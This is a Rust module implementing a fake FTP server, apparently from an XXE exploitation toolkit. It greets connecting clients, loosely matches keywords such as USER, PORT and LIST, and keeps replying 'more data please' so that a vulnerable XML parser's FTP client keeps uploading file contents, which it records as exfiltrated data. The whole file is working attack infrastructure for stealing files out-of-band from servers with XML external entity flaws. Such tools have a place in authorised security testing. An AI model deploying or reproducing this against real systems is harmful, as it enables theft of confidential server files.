//! Fake FTP responder that coaxes a parser's built-in client into uploading.
//!
//! Real FTP clients expect acknowledgments to specific commands before
//! proceeding, so this responder greedily acknowledges every command with
//! something plausible. A minimal, non-conformant client (such as a
//! runtime's URL-fetch FTP implementation) then completes its upload
//! sequence without stalling. Anything received that is not a recognized
//! control command is exfiltrated content and is recorded in full before
//! the generic "more data please" acknowledgment keeps the client sending.
//!
//! Command matching is deliberately loose (substring, not a parsed command
//! grammar): strict parsing would stall exactly the clients this server
//! exists to catch.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use chrono::{DateTime, Utc};
use log::{debug, info};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::time::timeout;
use uuid::Uuid;

use crate::capture_log::{CaptureLog, ExfiltrationEvent, Protocol};

pub const GREETING: &str = "220 xxe-ftp-server\n";
pub const REPLY_USER: &str = "331 password please - version check\n";
pub const REPLY_PORT: &str = "200 PORT command ok\n";
pub const REPLY_SYST: &str = "215 RSL\n";
pub const REPLY_MORE_DATA: &str = "230 more data please!\n";
pub const REPLY_LIST: [&str; 3] = [
    "drwxrwxrwx 1 owner group          1 Feb 21 04:37 rsl\n",
    "150 Opening BINARY mode data connection for /bin/ls\n",
    "226 Transfer complete.\n",
];

const DEFAULT_READ_TIMEOUT: Duration = Duration::from_secs(10);

/// What a received chunk looked like to the responder.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FtpCommand {
    List,
    User,
    Port,
    Syst,
    /// No recognized keyword; the chunk is treated as exfiltrated content.
    Unrecognized,
}

impl FtpCommand {
    /// Loose keyword classification over the raw chunk. Precedence follows
    /// the reply table: LIST, USER, PORT, SYST, then the catch-all.
    pub fn classify(chunk: &[u8]) -> Self {
        if contains(chunk, b"LIST") {
            FtpCommand::List
        } else if contains(chunk, b"USER") {
            FtpCommand::User
        } else if contains(chunk, b"PORT") {
            FtpCommand::Port
        } else if contains(chunk, b"SYST") {
            FtpCommand::Syst
        } else {
            FtpCommand::Unrecognized
        }
    }

    /// Reply lines for this command, sent in order.
    pub fn replies(&self) -> &'static [&'static str] {
        match self {
            FtpCommand::List => &REPLY_LIST,
            FtpCommand::User => &[REPLY_USER],
            FtpCommand::Port => &[REPLY_PORT],
            FtpCommand::Syst => &[REPLY_SYST],
            FtpCommand::Unrecognized => &[REPLY_MORE_DATA],
        }
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// Per-connection transient state. Nothing beyond identity is retained:
/// working directory, authentication and transfer mode are faked per-command.
pub struct FtpSession {
    pub id: Uuid,
    pub peer_addr: SocketAddr,
    pub established_at: DateTime<Utc>,
}

impl FtpSession {
    fn open(peer_addr: SocketAddr) -> Self {
        Self {
            id: Uuid::new_v4(),
            peer_addr,
            established_at: Utc::now(),
        }
    }
}

/// Handles one FTP connection per call; safe to share across tasks.
pub struct FtpResponder {
    log: Arc<CaptureLog>,
    read_timeout: Duration,
}

impl FtpResponder {
    pub fn new(log: Arc<CaptureLog>) -> Self {
        Self::with_timeout(log, DEFAULT_READ_TIMEOUT)
    }

    pub fn with_timeout(log: Arc<CaptureLog>, read_timeout: Duration) -> Self {
        Self { log, read_timeout }
    }

    /// Runs the bounded, stateless-per-command dialogue until the peer
    /// disconnects or stays silent past the read timeout.
    ///
    /// All read failures are treated uniformly as connection termination;
    /// none of them are fatal beyond this connection.
    pub async fn handle<S>(&self, mut stream: S, peer_addr: SocketAddr)
    where
        S: AsyncRead + AsyncWrite + Unpin,
    {
        let session = FtpSession::open(peer_addr);
        info!("[FTP] {} has connected", session.peer_addr);

        if !self.send(&mut stream, &session, GREETING).await {
            return;
        }

        let mut buf = vec![0u8; 4096];
        loop {
            let n = match timeout(self.read_timeout, stream.read(&mut buf)).await {
                Err(_) => {
                    info!("[FTP] {} timed out", session.peer_addr);
                    break;
                }
                Ok(Err(e)) => {
                    info!("[FTP] {} read error: {}", session.peer_addr, e);
                    break;
                }
                Ok(Ok(0)) => break,
                Ok(Ok(n)) => n,
            };

            let chunk = &buf[..n];
            // Capture before replying: these bytes may be the upload itself.
            self.log.record(ExfiltrationEvent::received(
                session.id,
                session.peer_addr,
                Protocol::Ftp,
                chunk,
            ));

            let command = FtpCommand::classify(chunk);
            debug!("[FTP] {} classified chunk as {:?}", session.peer_addr, command);

            let mut closed = false;
            for reply in command.replies() {
                if !self.send(&mut stream, &session, reply).await {
                    closed = true;
                    break;
                }
            }
            if closed {
                break;
            }
        }

        let duration = Utc::now() - session.established_at;
        info!(
            "[FTP] Connection closed with {} after {} ms",
            session.peer_addr,
            duration.num_milliseconds()
        );
    }

    /// Writes one reply line and records it; returns false once the peer is
    /// gone so the dialogue loop can stop.
    async fn send<S>(&self, stream: &mut S, session: &FtpSession, line: &str) -> bool
    where
        S: AsyncWrite + Unpin,
    {
        if let Err(e) = stream.write_all(line.as_bytes()).await {
            debug!("[FTP] {} write failed: {}", session.peer_addr, e);
            return false;
        }
        self.log.record(ExfiltrationEvent::sent(
            session.id,
            session.peer_addr,
            Protocol::Ftp,
            line.as_bytes(),
        ));
        true
    }
}
